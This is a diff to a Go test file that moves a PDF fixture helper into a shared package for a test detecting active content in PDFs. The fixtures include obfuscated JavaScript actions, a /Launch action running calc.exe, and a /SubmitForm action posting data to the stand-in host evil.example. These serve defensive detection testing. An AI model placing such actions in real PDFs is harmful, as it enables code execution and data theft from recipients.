@@ -5,6 +5,7 @@ import (
 	"compress/zlib"
 	"errors"
 	"fmt"
+	"github.com/brokerdesk/brokerdesk/test/pdftest"
 	"math"
 	"testing"
 
@@ -110,7 +111,7 @@ func TestInspect_ActiveContent(t *testing.T) {
 		"escaped names":         pagesPDF(1, "/OpenAction << /S /Java#53cript /J#53 (app.alert\\(1\\)) >>"),
 		"names tree":            pagesPDF(1, "/Names << /JavaScript 4 0 R >>", "<< /Names [(x) << /S /JavaScript /JS (1) >>] >>"),
 		"launch":                pagesPDF(1, "/OpenAction << /S /Launch /F (calc.exe) >>"),
-		"page AA": handPDF("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+		"page AA": pdftest.Hand("<< /Type /Catalog /Pages 2 0 R >>", "<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
 			"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /AA << /O << /S /Named /N /NextPage >> >> >>"),
 		"submit form": pagesPDF(1, "/OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
 	}
